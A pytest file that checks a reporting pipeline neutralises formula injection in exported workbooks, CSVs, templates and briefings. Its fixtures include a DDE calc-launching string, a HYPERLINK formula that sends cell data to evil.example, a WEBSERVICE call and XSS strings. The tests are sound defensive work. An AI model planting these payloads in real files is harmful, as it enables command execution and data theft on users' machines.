"""Formula injection: no file a person opens (feedback workbooks, templates, dashboard and CLI
downloads, briefings) carries a formula that came from input. Each output is opened with openpyxl
(and its XML read) and every cell's data type checked; CSV cells are read back with the csv module."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest
import xlsxwriter

from dashboards import exports
from pipelines import safe_output
from pipelines.reporting_calendar import parse_period
from pipelines.returns import feedback, templates
from tests.security.hostile import (
    CLEAN,
    FORMULAS,
    cell_texts,
    csv_cells,
    dangerous_csv_cell,
    formula_cells,
    publish_tiny,
    xml_formulas,
)

ALL = FORMULAS + CLEAN


def assert_no_formulas(data: bytes) -> None:
    assert formula_cells(data) == []
    assert xml_formulas(data) == []


# ------------------------------------------------------------------------------ the helper itself


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_quoted_for_csv(text):
    assert safe_output.is_formula_like(text)
    out = safe_output.csv_text(text)
    assert out == "'" + text.replace("\r", "\n") and not dangerous_csv_cell(out)


@pytest.mark.parametrize("text", CLEAN)
def test_clean_text_and_numbers_are_unchanged(text):
    assert not safe_output.is_formula_like(text)
    assert safe_output.csv_text(text) == text


@pytest.mark.parametrize("number", [-5, -0.5, -1e9, 3, 2.5])
def test_numbers_stay_numbers(number):
    assert safe_output.csv_text(number) == number
    wb = openpyxl.Workbook()
    cell = safe_output.set_cell(wb.active["A1"], number)
    assert cell.data_type == "n" and cell.value == number


@pytest.mark.parametrize("text", ALL)
def test_openpyxl_cells_hold_text_as_text(text):
    wb = openpyxl.Workbook()
    cell = safe_output.set_cell(wb.active["A1"], text)
    assert cell.data_type == "s"
    buf = io.BytesIO()
    wb.save(buf)
    assert_no_formulas(buf.getvalue())


# ------------------------------------------------------------------------------ dashboard downloads


def hostile_frame() -> pd.DataFrame:
    n = len(ALL)
    return pd.DataFrame(
        {
            "name": list(ALL),
            "value": [-float(i) for i in range(n)],
            "mixed": [-i if i % 2 else t for i, t in enumerate(ALL)],
            FORMULAS[1]: ["x"] * n,  # a column name a console user chose
        }
    )


def test_dashboard_csv_download_quotes_every_formula_and_keeps_numbers():
    data = exports.csv_bytes(hostile_frame())
    cells = csv_cells(data)
    assert [c for c in cells if dangerous_csv_cell(c)] == []
    for text in FORMULAS:
        assert (
            "'" + text.replace("\r", "\n")
            in data.decode("utf-8-sig").replace("\r\n", "\n").replace("\r", "\n")
            or "'" + text in cells
        )
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["value"].tolist() == [-float(i) for i in range(len(ALL))]  # negatives are numbers
    assert "-5" in cells and "-12%" in cells and "'" + FORMULAS[1] in cells  # header quoted too


@pytest.mark.parametrize("sep", ["\r", "\n", "\r\n"])
def test_a_line_break_inside_a_cell_cannot_start_a_row_with_a_formula(sep):
    df = pd.DataFrame({"a": [f"县环保局{sep}=cmd|' /C calc'!A0", "ok"], "b": [1, 2]})
    for data in (exports.csv_bytes(df), safe_output.write_csv(df.values.tolist(), list(df.columns)).encode()):
        text = data.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 3 and [c for r in rows for c in r if dangerous_csv_cell(c)] == []
        # what a spreadsheet that splits rows at any bare CR or LF outside quotes would see
        outside = re.sub(r'"(?:[^"]|"")*"', '""', text)
        assert all(not dangerous_csv_cell(line.split(",")[0]) for line in re.split(r"\r\n|\r|\n", outside))


def test_dashboard_xlsx_download_has_no_formula_and_numbers_stay_numbers():
    data = exports.xlsx_bytes(hostile_frame(), sheet="=cmd|' /C calc'!A0")
    assert_no_formulas(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.active
    names = [ws.cell(row=r, column=1).value for r in range(2, len(ALL) + 2)]
    assert names[0] == FORMULAS[0] and FORMULAS[1] in [c.value for c in ws[1]]
    values = [ws.cell(row=r, column=2) for r in range(2, len(ALL) + 2)]
    assert all(c.data_type == "n" for c in values) and values[3].value == -3
    assert not any(c.hyperlink for row in ws.iter_rows() for c in row)  # no URL made into a link


def test_dashboard_xlsx_download_of_console_values_does_not_fail():
    import decimal
    import uuid

    df = pd.DataFrame(
        {
            "s": [{"a": "=1+1"}],
            "u": [uuid.UUID(int=1)],
            "d": [decimal.Decimal("-1.5")],
            "t": [dt.datetime(2020, 1, 1, tzinfo=dt.UTC)],
            "b": [b"=x"],
        }
    )
    assert_no_formulas(exports.xlsx_bytes(df))


# ------------------------------------------------------------------------------ feedback workbooks


def _report(issue_text: str = FORMULAS[0], name: str = "=cmd|' calc'!A0.xlsx") -> feedback.FileReport:
    issues = [
        feedback.Issue("value", "not_a_number", issue_text, issue_text, "填报表", f"B{r}", issue_text)
        for r in range(2, 5)
    ]
    issues.append(feedback.Issue("file", "unknown_period", "=1+1", "@x", None, None, "+x"))
    return feedback.FileReport(name, f"c/u/{name}", "partial", 1, 3, "=HYPERLINK(1)", "-1+1", None, issues)


def department_xlsx_with_formulas() -> bytes:
    """A department's workbook holding live formulas (with cached values), a DDE defined name, an
    external-reaching conditional format and text that looks like formulas."""
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True})
    ws = wb.add_worksheet("填报表")
    ws.write_string(0, 0, "指标名称")
    ws.write_string(0, 1, "本期数值")
    ws.write_formula(1, 1, '=HYPERLINK("http://evil.example/?d="&A2,"点此核对")', None, "点此核对")
    ws.write_formula(2, 1, "=cmd|' /C calc'!A0", None, 0)
    ws.write_formula(3, 1, "=1+1", None, 2)
    ws.write_formula(4, 1, "=SUM(B3:B4)")  # no cached value
    ws.write_array_formula(5, 1, 5, 1, "{=SUM(B3:B4*1)}", None, 2)
    for r, text in enumerate(FORMULAS, start=7):
        ws.write_string(r, 0, text)
    ws.conditional_format(0, 0, 3, 3, {"type": "formula", "criteria": '=WEBSERVICE("http://evil.example")'})
    ws.conditional_format(0, 0, 3, 3, {"type": "formula", "criteria": "=$B$2>1", "format": None})
    wb.define_name("evil", "=cmd|' /C calc'!A0")
    wb.define_name("kept", "=填报表!$A$1")
    wb.close()
    return buf.getvalue()


def test_feedback_on_a_workbook_with_formulas_keeps_values_not_formulas(tmp_path):
    src = tmp_path / "dept.xlsx"
    src.write_bytes(department_xlsx_with_formulas())
    assert formula_cells(src.read_bytes())  # the input really has formulas
    out = feedback.build_feedback(src, tmp_path / "fb.xlsx", _report())
    data = out.read_bytes()
    assert_no_formulas(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["填报表"]
    assert ws["B2"].value == "点此核对" and ws["B4"].value == 2 and ws["B4"].data_type == "n"
    assert ws["B5"].value == 0 and ws["B6"].value == 2  # the cached values (xlsxwriter's default 0)
    assert [ws.cell(row=r, column=1).value for r in range(8, 8 + len(FORMULAS))][0] == FORMULAS[0]
    assert "evil" not in wb.defined_names and "kept" in wb.defined_names
    rules = [r.formula for cf in ws.conditional_formatting for r in cf.rules]
    assert rules and not any("WEBSERVICE" in f for fs in rules for f in fs)
    assert wb.sheetnames[0] == feedback.SUMMARY_SHEET
    assert FORMULAS[0] in cell_texts(data)  # the text is still there, as text


def test_feedback_keeps_the_text_of_a_formula_without_a_cached_value(tmp_path):
    wb = openpyxl.Workbook()  # openpyxl stores formulas without values
    ws = wb.active
    ws.title = "填报表"
    ws["A1"], ws["B1"] = "指标名称", "=cmd|' /C calc'!A0"
    src = tmp_path / "dept.xlsx"
    wb.save(src)
    data = feedback.build_feedback(src, tmp_path / "fb.xlsx", _report()).read_bytes()
    assert_no_formulas(data)
    back = openpyxl.load_workbook(io.BytesIO(data))["填报表"]["B1"]
    assert back.value == "=cmd|' /C calc'!A0" and back.data_type == "s" and back.quotePrefix


def test_feedback_rebuilt_from_csv_and_its_summary_hold_text_only(tmp_path):
    src = tmp_path / "dept.csv"
    src.write_text("\n".join(f'"{t.replace(chr(34), chr(34) * 2)}",1' for t in ALL), encoding="utf-8")
    out = feedback.build_feedback(src, tmp_path / "fb.xlsx", _report())
    data = out.read_bytes()
    assert_no_formulas(data)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames[0] == feedback.SUMMARY_SHEET and len(wb.sheetnames) == 2
    texts = cell_texts(data)
    assert FORMULAS[0] in texts and "=cmd|' calc'!A0.xlsx" in " ".join(texts)


@pytest.mark.parametrize("text", FORMULAS)
def test_feedback_summary_only_holds_text(tmp_path, text):
    missing = tmp_path / "gone.xlsx"  # cannot be opened: summary only
    out = feedback.build_feedback(missing, tmp_path / "fb.xlsx", _report(text, name=text + ".xlsx"))
    data = out.read_bytes()
    assert_no_formulas(data)
    summary = openpyxl.load_workbook(io.BytesIO(data))[feedback.SUMMARY_SHEET]
    assert summary["A1"].data_type == "s"
    assert any(
        c.value == text.replace("\r", "\n") or c.value == text for row in summary.iter_rows() for c in row
    )


def test_feedback_on_a_clean_workbook_is_unchanged_in_content(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "填报表"
    ws.append(["指标名称", "本期数值"])
    ws.append(["空气质量优良天数比例", -85.3])
    src = tmp_path / "clean.xlsx"
    wb.save(src)
    out = feedback.build_feedback(src, tmp_path / "fb.xlsx", _report("八十五", "clean.xlsx"))
    back = openpyxl.load_workbook(out)["填报表"]
    assert back["A2"].value == "空气质量优良天数比例" and back["B2"].value == -85.3
    assert back["B2"].data_type == "n" and back["A2"].quotePrefix is False


# ------------------------------------------------------------------------------ templates


def test_templates_with_hostile_names_values_and_remarks_hold_text_only(catalog, profile):
    period = parse_period("2012-03")
    evil_profile = dataclasses.replace(profile, name_zh="=cmd|' /C calc'!A0")
    unit, rows = next(
        (u, r)
        for u in templates.reporting_units(catalog, profile)
        if (r := templates.build_rows(catalog, evil_profile, u, period))
    )
    evil_unit = dataclasses.replace(unit, name_zh=FORMULAS[0])
    rows = [dataclasses.replace(r, previous=FORMULAS[i % len(FORMULAS)]) for i, r in enumerate(rows)]
    codes = [r.indicator.code for r in rows]
    data = templates.render_workbook(
        catalog,
        evil_profile,
        evil_unit,
        period,
        rows,
        generated_at=dt.datetime(2012, 4, 1),
        values={c: FORMULAS[i % len(FORMULAS)] for i, c in enumerate(codes)},
        remarks={c: "@SUM(1)" for c in codes},
    )
    assert_no_formulas(data)
    texts = cell_texts(data)
    assert any(t.startswith("=cmd|") for t in texts) and FORMULAS[0] in texts


# ------------------------------------------------------------------------------ CLI CSV output


def test_cli_sql_csv_output_is_escaped(tmp_settings, capsys):
    from pipelines import cli

    publish_tiny(tmp_settings.warehouse_path, tmp_settings.published_dir)
    code = cli.main(["sql", 'SELECT name_zh AS "=1+1", score FROM dim.county ORDER BY county_code', "--csv"])
    out = capsys.readouterr().out
    assert code == 0
    cells = csv_cells(out)
    assert [c for c in cells if dangerous_csv_cell(c)] == []
    assert "'=1+1" in cells and "'" + FORMULAS[0] in cells and "-5.0" in cells


# ------------------------------------------------------------------------------ briefings


def _briefing() -> exports.Briefing:
    b = exports.Briefing(title="=cmd|' /C calc'!A0", subtitle="![x](http://evil.example/p.png)")
    b.sections.append(("=1+1", [*FORMULAS, "<img src=x onerror=alert(1)>", "[点此](javascript:alert(1))"]))
    return b


def test_briefing_docx_holds_plain_text_without_fields():
    from docx import Document

    data = exports.briefing_docx(_briefing())
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        body = z.read("word/document.xml")
    for marker in (b"fldSimple", b"instrText", b"fldChar", b"hyperlink", b"DDE"):
        assert marker not in body
    text = [p.text for p in Document(io.BytesIO(data)).paragraphs]
    assert "=cmd|' /C calc'!A0" in text and FORMULAS[0] in text


def test_briefing_markdown_shows_links_images_and_html_as_text():
    markdown_it = pytest.importorskip("markdown_it")
    md = _briefing().markdown()
    html = markdown_it.MarkdownIt("commonmark").render(md)
    assert "<img" not in html and "<a " not in html and "href" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "![x](http://evil.example/p.png)" in html
    plain = markdown_it.MarkdownIt("commonmark").render("- ![x](http://evil.example/p.png)")
    assert "<img" in plain  # the check itself can fail


def test_a_stored_feedback_file_is_served_without_formulas(tmp_path):
    """A feedback workbook written before formulas were neutralised is cleaned when downloaded."""
    old = tmp_path / "old_反馈.xlsx"
    old.write_bytes(department_xlsx_with_formulas())
    data = exports.workbook_bytes(old)
    assert data and formula_cells(old.read_bytes())
    assert_no_formulas(data)
    assert openpyxl.load_workbook(io.BytesIO(data))["填报表"]["B2"].value == "点此核对"
    clean = tmp_path / "clean.xlsx"
    openpyxl.Workbook().save(clean)
    assert exports.workbook_bytes(clean) == clean.read_bytes()  # nothing to clean: served as stored
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(b"PK\x03\x04 not a workbook")
    assert exports.workbook_bytes(junk) is None
